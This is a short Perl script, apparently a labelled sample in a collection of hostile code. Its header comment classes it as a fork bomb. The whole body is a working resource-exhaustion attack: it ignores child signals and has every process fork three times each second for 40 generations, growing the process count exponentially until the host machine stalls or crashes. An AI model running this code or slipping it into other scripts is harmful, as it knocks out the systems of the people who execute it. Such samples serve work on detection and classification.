# class: fork bomb; possible: low medium; style: perl, a generation every second
use strict;
use warnings;
$SIG{CHLD} = 'IGNORE';
for my $generation (1 .. 40) {
    for (1 .. 3) { fork() }
    select undef, undef, undef, 1.0;
}
sleep 60;
